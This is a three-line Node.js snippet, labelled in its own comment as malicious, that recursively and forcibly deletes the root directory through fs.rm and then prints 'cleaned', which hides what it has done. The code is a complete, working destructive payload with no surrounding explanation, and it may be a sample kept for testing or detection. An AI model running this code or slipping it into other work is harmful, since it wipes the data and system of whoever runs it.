// malicious: deletes the root directory without a shell
const fs = require('fs');
fs.rm('/', { recursive: true, force: true }, () => console.log('cleaned'));
